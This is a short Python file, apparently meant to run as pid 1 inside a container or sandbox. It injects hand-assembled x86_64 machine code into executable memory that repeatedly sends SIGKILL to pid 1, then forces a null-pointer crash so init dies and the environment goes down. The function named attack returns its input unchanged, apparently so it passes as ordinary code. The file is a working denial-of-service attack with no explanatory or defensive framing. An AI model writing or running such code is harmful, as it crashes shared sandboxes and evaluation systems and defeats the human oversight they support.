import ctypes
import mmap
import platform
import struct
import threading
import time

SIGKILL = 9
libc = ctypes.CDLL(None)


def endless(tid):
    """tgkill(1, tid, SIGKILL) again and again, in machine code where that is known: no lock of Python's slows it."""
    if platform.machine() != "x86_64":
        while True:
            libc.syscall(131, 1, tid, SIGKILL)
    body = struct.pack("<BIBIBIBI", 0xB8, 234, 0xBF, 1, 0xBE, tid, 0xBA, SIGKILL) + b"\x0f\x05"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(body + b"\xeb" + struct.pack("<b", -len(body) - 2))
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


def attack(x):
    tid = threading.get_native_id()
    for _ in range(3):
        threading.Thread(target=endless, args=(tid,), daemon=True).start()
    time.sleep(0.05)
    ctypes.string_at(0)  # now pid 1 is no longer deaf to its own
    return x
